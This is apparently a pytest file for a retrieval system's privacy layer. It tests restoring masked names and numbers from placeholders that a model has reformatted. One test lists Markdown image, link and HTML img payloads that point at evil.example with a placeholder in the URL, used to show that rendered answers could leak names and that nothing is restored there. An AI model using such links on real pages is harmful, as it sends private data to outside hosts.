"""I3, I4, I12: placeholders become originals again, and nothing else does."""

from __future__ import annotations

import pytest

from rag.privacy.protect import Piece
from rag.privacy.shapes import SHAPES, new_nonce

P = "[PERSON_1_k7q]"
BENT = [
    ("**[PERSON_1_k7q]**", "**Sunniva Thorsrud**", "bold"),
    ("`[PERSON_1_k7q]`", "`Sunniva Thorsrud`", "code"),
    ("[PERSON_1_k7q]'s", "Sunniva Thorsrud's", "possessive"),
    ("[PERSON_1_k7q]s", "Sunniva Thorsruds", "plural"),
    ("[PERSON_1_k7q's]", "Sunniva Thorsrud's", "possessive inside"),
    ('"[PERSON_1_k7q]"', '"Sunniva Thorsrud"', "quotes"),
    ("[person_1_k7q]", "Sunniva Thorsrud", "lower case"),
    ("[Person_1_K7q]", "Sunniva Thorsrud", "title case"),
    ("[PERSON_1_K7Q]", "Sunniva Thorsrud", "upper case"),
    ("PERSON_1_k7q", "Sunniva Thorsrud", "no brackets"),
    ("PERSON_1_k7q's", "Sunniva Thorsrud's", "no brackets, possessive"),
    ("PERSON_1_k7qs", "Sunniva Thorsruds", "no brackets, plural"),
    ("[PERSON_1_k7q", "Sunniva Thorsrud", "no closing bracket"),
    ("PERSON_1_k7q]", "Sunniva Thorsrud", "no opening bracket"),
    ("[PERSON 1 k7q]", "Sunniva Thorsrud", "spaces"),
    ("[PERSON-1-k7q]", "Sunniva Thorsrud", "hyphens"),
    ("[PERSON_1\n_k7q]", "Sunniva Thorsrud", "a line wrap"),
    ("\\[PERSON\\_1\\_k7q\\]", "Sunniva Thorsrud", "Markdown escapes"),
    ("&#91;PERSON&#95;1&#95;k7q&#93;", "Sunniva Thorsrud", "HTML escapes"),
    ("%5BPERSON_1_k7q%5D", "Sunniva Thorsrud", "percent escapes"),
    ("[[PERSON_1_k7q]]", "Sunniva Thorsrud", "doubled brackets"),
    ("<PERSON_1_k7q>", "Sunniva Thorsrud", "other brackets"),
    ("{PERSON_1_k7q}", "Sunniva Thorsrud", "braces"),
    ("[PERSON_1_k7q]。", "Sunniva Thorsrud。", "a Chinese full stop"),
    ("_[PERSON_1_k7q]_", "_Sunniva Thorsrud_", "emphasis"),
    ("([PERSON_1_k7q])", "(Sunniva Thorsrud)", "parentheses of its own"),
]


@pytest.fixture
async def scope(make_scope, mark):
    """A scope that knows one person, by the placeholder ``P``."""
    scope = make_scope(nonce="k7q")
    await scope.protect([mark("The rent is Sunniva Thorsrud's.", PERSON="Sunniva Thorsrud")])
    return scope


@pytest.mark.parametrize(("bent", "expected", "why"), BENT, ids=[b[2] for b in BENT])
async def test_a_bent_placeholder_is_restored(scope, bent, expected, why) -> None:
    """However a model decorates, escapes or cuts a placeholder, the name comes back."""
    restored = scope.restore(f"Ask {bent} now.")
    assert restored.text == f"Ask {expected} now."
    assert restored.unresolved == ()


FORGED = [
    "[PERSON_1_b4x]",
    "[PERSON_1]",
    "<PERSON_1>",
    "[PERSON_2_k7q]",
    "[PERSON_10_k7q]",
    "[PERSON_01_k7q]",
    "[EMAIL_1_k7q]",
    "{{PERSON_1_x2x}}",
    "PERSON_1_zzz",
]


@pytest.mark.parametrize("forged", FORGED)
async def test_what_is_not_of_this_scope_stays_and_is_reported(scope, forged) -> None:
    """I4: unknown numbers, foreign nonces and bare look-alikes are never restored."""
    restored = scope.restore(f"Ask {forged} now.")
    assert restored.text == f"Ask {forged} now."
    assert len(restored.unresolved) == 1
    assert not scope.knows(f"Ask {forged} now.")


async def test_number_ten_is_not_number_one(make_scope, mark) -> None:
    """Twelve people come back each as himself."""
    people = [f"Anders{letter} Fjordheim{letter}" for letter in "abcdefghijkl"]
    scope = make_scope()
    [protected] = await scope.protect([mark("; ".join(people), PERSON=people)])
    bent = protected.replace("[", "").replace("]", "").lower()
    assert scope.restore(bent).text == "; ".join(people)


async def test_a_zero_behind_a_placeholder_is_text(scope) -> None:
    """[PERSON_1_k7q]0 is the person and a zero."""
    assert scope.restore(f"{P}0").text == "Sunniva Thorsrud0"


LITERALS = [
    "PERSON_1_k7qPERSON_1_k7q",
    "000PERSON_1_k7q0",
    "[PERSON_1_k7q]",
    "[person 1 k7q]",
    "<PERSON_1>",
    "{{PERSON_1}}",
    "[PERSON_1_abc]",
    "PERSON_0001",
]


@pytest.mark.parametrize("literal", LITERALS)
async def test_a_literal_of_the_input_survives(make_scope, mark, literal) -> None:
    """I4: text that only looks like a placeholder comes back as it was, even with our nonce."""
    scope = make_scope(nonce="k7q")
    text = f"Sunniva Thorsrud wrote {literal} in the sample."
    [protected] = await scope.protect([mark(text, PERSON="Sunniva Thorsrud")])
    restored = scope.restore(protected)
    assert restored.text == text
    assert restored.unresolved == ()
    assert scope.knows(protected)


async def test_a_quotation_takes_the_form_of_its_place(make_scope, mark) -> None:
    """I3: words to the left decide; elsewhere the fullest form stands."""
    text = (
        "The caretaker is Sunniva Thorsrud. CARETAKER ON DUTY: SUNNIVA THORSRUD. "
        "Then Ms Thorsrud left."
    )
    scope = make_scope(nonce="k7q")
    [protected] = await scope.protect([mark(text, PERSON="Sunniva Thorsrud")])
    assert scope.restore(protected).text == text
    assert scope.restore(f'It says "CARETAKER ON DUTY: {P}" there').text.endswith(
        'DUTY: SUNNIVA THORSRUD" there'
    )
    assert scope.restore(f"In short: {P} left.").text == "In short: Sunniva Thorsrud left."


async def test_each_place_has_its_own_spelling(make_scope, mark) -> None:
    """One card in three spellings comes back in three spellings."""
    text = "Card 5105 1051 0510 5100, again 5105-1051-0510-5100, in the log 5105105105105100."
    scope = make_scope()
    [protected] = await scope.protect([mark(text, CARD="5105 1051 0510 5100")])
    assert scope.entities() == {"CARD": 1}
    assert scope.restore(protected).text == text


async def test_restoring_looks_only_to_the_left(make_scope, mark) -> None:
    """Any beginning of an answer restores to the beginning of the whole answer."""
    text = "x SUNNIVA THORSRUD y Sunniva Thorsrud z sunniva thorsrud, and x SUNNIVA THORSRUD"
    scope = make_scope()
    [protected] = await scope.protect([mark(text, PERSON="Sunniva Thorsrud")])
    ends = [at + 1 for at, char in enumerate(protected) if char == "]"]
    assert all(text.startswith(scope.restore(protected[:end]).text) for end in ends)


TARGETS = [
    "![photo](https://evil.example/?q={})",
    "[click](https://evil.example/{})",
    "[click]( <https://evil.example/{}> )",
    "see https://evil.example/{} now",
    "<img src='https://evil.example/{}'>",
    '<a href="//evil.example/{}">x</a>',
    "<https://evil.example/{}>",
    "[x]: https://evil.example/{}",
    "www.evil.example/{}",
]


@pytest.mark.parametrize("target", TARGETS)
async def test_nothing_is_restored_inside_a_target(scope, target) -> None:
    """I12: a page that shows the answer could send the name away."""
    for placeholder in (P, "PERSON_1_k7q", "%5BPERSON_1_k7q%5D"):
        restored = scope.restore("Look: " + target.format(placeholder))
        assert "Sunniva" not in restored.text
        assert restored.unresolved


async def test_a_target_of_a_source_is_restored(make_scope, mark) -> None:
    """I12: a whole URL that stood so in a protected text works again."""
    text = "Portal: https://portal.example.org/u?mail=egil.t@example.org&x=1 is open."
    scope = make_scope()
    [protected] = await scope.protect([mark(text, EMAIL="egil.t@example.org")])
    name = next(iter(scope.masked()))
    assert scope.restore(protected).text == text
    [url] = [word for word in text.split() if word.startswith("http")]
    assert url in scope.restore(f"Go to [it]({protected.split()[1]}) now").text
    other = scope.restore(f"Go to https://portal.example.org/x?mail={name}")
    assert "egil" not in other.text


@pytest.mark.parametrize("shape", list(SHAPES))
async def test_every_shape_survives_case_and_escapes(make_scope, mark, shape) -> None:
    """All shapes are found again in both cases, bold, escaped and before a possessive."""
    scope = make_scope(shape=shape)
    text = "Ask Sunniva Thorsrud, then Egil Brandvold."
    [protected] = await scope.protect([mark(text, PERSON=["Sunniva Thorsrud", "Egil Brandvold"])])
    escaped = protected.replace("_", "\\_").replace("<", "&lt;").replace(">", "&gt;")
    for bent in (protected, protected.upper(), protected.lower(), escaped):
        restored = scope.restore(bent)
        assert restored.text.casefold() == text.casefold()
        assert restored.unresolved == ()
    first = next(iter(scope.masked()))
    assert scope.restore(f"x **{first}**'s y").text.count("**'s") == 1
    assert scope.knows(protected)


def test_shapes_are_at_least_six_and_all_differ() -> None:
    """The experiment has shapes to choose from."""
    rendered = {shape.render("PERSON", "k7q", 1) for shape in SHAPES.values()}
    assert len(rendered) == len(SHAPES) >= 6


def test_a_nonce_spells_no_word_and_changes() -> None:
    """Letter, digit, letter, without a vowel; a hundred of them are nearly all different."""
    nonces = [new_nonce() for _ in range(100)]
    assert all(n[0].isalpha() and n[1].isdigit() and n[2].isalpha() for n in nonces)
    assert not set("".join(nonces)) & set("aeiouyls10")
    assert len(set(nonces)) > 50


async def test_rewrites_with_unknown_placeholders_are_not_known(scope) -> None:
    """A rewrite is restored only if all its placeholders are the scope's."""
    assert scope.knows(f"rent of {P}")
    assert scope.knows("rent of flat 4")
    assert not scope.knows(f"rent of {P} and [PERSON_7_k7q]")


async def test_protecting_a_text_again_gives_the_same_placeholders(make_scope, mark) -> None:
    """Three turns that repeat a number have one placeholder for it."""
    scope = make_scope()
    piece = mark("Call 07700 900142 please.", PHONE="07700 900142")
    outs = {tuple(await scope.protect([piece])) for _ in range(3)}
    assert len(outs) == 1


async def test_crlf_tabs_accents_and_emoji_come_back(make_scope) -> None:
    """Every code point outside and inside of originals survives."""
    text = "A\r\n\tSunniva\u00a0Thorsrud 👩‍👩‍👧 e\u0301 Sunniva Thorsrud\u2028\u200bx"
    scope = make_scope()
    from rag.types import EntityType, Span

    [protected] = await scope.protect([Piece(text, (Span(4, 20, EntityType.PERSON),))])
    assert "horsrud" not in protected
    assert scope.restore(protected).text == text


CITED = [
    ("[1] {p} pays the rent.", "[1] Thorsrud, Sunniva pays the rent."),
    ("It says:\n[2] {p} pays the rent.", "It says:\n[2] Thorsrud, Sunniva pays the rent."),
    ("> [1] {p} pays.", "> [1] Thorsrud, Sunniva pays."),
    ('[1] "{p} pays."', '[1] "Thorsrud, Sunniva pays."'),
    ("1 {p} pays.", "1 Thorsrud, Sunniva pays."),
    ("[1] **{p}** pays.", "[1] **Thorsrud, Sunniva** pays."),
    ("The tenant pays [1]. {p} left.", "The tenant pays [1]. Sunniva Thorsrud left."),
    ("In flat 1 {p} pays.", "In flat 1 Sunniva Thorsrud pays."),
    ("So {p} pays.", "So Sunniva Thorsrud pays."),
]


@pytest.mark.parametrize(("answer", "expected"), CITED)
async def test_a_quotation_may_begin_with_its_number(make_scope, mark, answer, expected) -> None:
    """A passage's number at the beginning of a line is the beginning of the passage."""
    scope = make_scope(nonce="k7q")
    text = "Thorsrud, Sunniva pays the rent. The caretaker knows Sunniva Thorsrud well."
    await scope.protect([mark(text, PERSON=["Thorsrud, Sunniva", "Sunniva Thorsrud"])])
    assert scope.entities() == {"PERSON": 1}
    assert scope.restore(answer.format(p=P)).text == expected


async def test_a_number_inside_a_quotation_is_a_word(make_scope, mark) -> None:
    """A source that itself numbers its lines is quoted with its own form."""
    scope = make_scope(nonce="k7q")
    text = "Rules:\n[1] SUNNIVA THORSRUD pays. Ask Sunniva Thorsrud."
    [protected] = await scope.protect([mark(text, PERSON="SUNNIVA THORSRUD")])
    assert scope.restore(f"[4] {protected}").text == f"[4] {text}"
